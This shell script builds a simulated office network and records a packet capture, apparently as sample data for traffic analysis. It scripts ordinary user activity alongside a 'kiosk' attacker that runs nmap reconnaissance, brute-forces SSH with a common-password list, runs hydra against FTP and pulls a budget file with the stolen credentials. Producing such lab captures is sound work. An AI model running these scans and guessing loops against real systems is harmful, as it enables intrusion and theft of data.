# The story of samples/port-scan.pcapng: an ordinary office, and a kiosk in the hall that looks for a way in.
# Sourced by record-samples; about two and a half minutes.

ua='Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0'

prepare() {
  local where
  private_files
  add_people
  make_certificates
  make_pages
  make_office
  make_world
  address nas 10
  address db 11
  address hub 12
  address printer 20
  plug_in kiosk switch b8:27:eb:51:7c:d3
  address kiosk 66
  world_dns
  world_web
  world_time
  office_dns
  office_time
  sshd_on nas
  vsftpd_on nas
  snmpd_on nas 'Office NAS, 4 bays'
  samba_on nas
  ldap_on nas
  snmpd_on printer 'Laser printer, 28 pages a minute'
  serve printer busybox httpd -f -p 80 -h /srv/camera
  database_on db
  mqtt_on hub
  for where in cloud:443 db:5432 db:6379 nas:445 nas:389 nas:21 nas:22 hub:1883 router:53 printer:80; do
    wait_for 20 listening "${where%:*}" "${where#*:}"
  done
  # The passwords that people take first; Ben's real one is the last.
  printf '%s\n' 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon 123123 baseball abc123 football monkey letmein \
    696969 shadow master 666666 qwertyuiop 123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 000000 qazwsx 123qwe \
    killer trustno1 jordan jennifer zxcvbnm asdfgh hunter buster soccer harley batman andrew tigger sunshine iloveyou ben-likes-tea-4 >$lab/passwords
  sleep 5
}

ana_day() {
  local n=laptop-ana
  until_s 2; ipv6_on $n eth0; dhclient_on $n
  at $n ip route replace 224.0.0.0/4 dev eth0
  for t in 8 46 83 121; do
    until_s $t
    on $n curl -sS -A "$ua" --compressed -o /dev/null http://www.alder.example/ -o /dev/null http://www.alder.example/style.css -o /dev/null http://www.alder.example/img/lamp.png
    on $n curl -sS -Z -A "$ua" --cacert $lab/tls/root.pem https://shop.alder.example/index.html -o /dev/null https://shop.alder.example/img/table.png -o /dev/null
    on $n ping -q -c 2 -i 0.6 www.alder.example
  done
}

ben_day() {
  local n=laptop-ben
  until_s 5; ipv6_on $n eth0; udhcpc_on $n
  for t in 12 37 58 79 96 118 140; do
    until_s $t
    on $n curl -sS -A orders/1.4 http://www.alder.example/api/orders
    PGPASSWORD=keep-the-bees on $n psql -X -h db -U postgres -c 'select count(*) from pg_class'
    on $n dig +short mail.alder.example
    on $n redis-cli -h db INCR visits
  done
  until_s 128; on $n curl -sS -A "$ua" --cacert $lab/tls/root.pem -o /dev/null https://bank.alder.example/index.html
}

cho_day() {
  local n=desk-cho
  until_s 4; ipv6_on $n eth0; udhcpc_on $n
  until_s 22; on $n smbclient //nas/share -s /dev/null -m SMB3_11 -U ana%ana-likes-tea-4 -c 'ls; get budget.csv /tmp/budget.csv'
  until_s 66; on $n sshpass -p cho-likes-tea-4 ssh cho@nas 'ls /srv/share'
  until_s 112; on $n ldapsearch -x -H ldap://nas -b dc=office,dc=example '(sn=Min)' mail
}

thermostat_day() {
  until_s 1; udhcpc_on thermostat; ipv6_on thermostat eth0
  { for i in $(seq 0 13); do printf '{"room":"first floor","celsius":%d.%d}\n' $((20 + i / 9)) $((i * 7 % 10)); sleep 10; done; } |
    timeout 145 nsenter -t "${pid_of[thermostat]}" -m -u -n -- mosquitto_pub -h 192.168.10.12 -u thermostat -P warm-and-dry -V mqttv311 -i thermostat \
      -t office/first-floor/climate -q 1 -k 20 -l >>$lab/log/thermostat 2>&1 || true
}

# Who is there, what is open, what runs there, and then the passwords, over SSH and over FTP.
kiosk_day() {
  local n=kiosk scan='nmap --max-retries 1 --host-timeout 40s'
  until_s 16; on $n $scan -sn 192.168.10.0/25
  until_s 26; on $n $scan -sS -n -T4 192.168.10.1 192.168.10.10-12 192.168.10.20
  until_s 44; on $n $scan -sV -n -Pn --version-intensity 3 -p 21,22,80,389,445 192.168.10.10
  until_s 62; on $n $scan -sV -n -Pn --version-intensity 3 -p 1883,5432,6379 192.168.10.11-12
  until_s 72; on $n $scan -sU -n -Pn -p 53,67,123,137,161,500,1900,5353 192.168.10.1 192.168.10.20
  until_s 80; on $n $scan -O -n -Pn -p 21,22,23 192.168.10.10
  until_s 90; guess_over_ssh
  until_s 132; at $n sh -c "cd /tmp && timeout 12 hydra -I -t 4 -l ana -P $lab/passwords ftp://192.168.10.10" >>$lab/log/$n 2>&1 </dev/null || true
  until_s 146; on $n curl -sS -u ben:ben-likes-tea-4 -o /dev/null 'ftp://192.168.10.10//srv/share/budget.csv'
}

# One connection a password, as guessing programs do, until one is let in.
guess_over_ssh() {
  local password
  while read -r password; do
    at kiosk timeout 5 sshpass -p "$password" ssh -4 -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no ben@192.168.10.10 'id; ls -l /srv/share' \
      >>$lab/log/kiosk 2>&1 </dev/null && break
  done <$lab/passwords
}

record() {
  prepare
  start_recording
  local actors=() part
  for part in thermostat_day ana_day ben_day cho_day kiosk_day; do
    $part &
    actors+=($!)
  done
  wait "${actors[@]}" || true
  until_s 152
  stop_recording port-scan
}
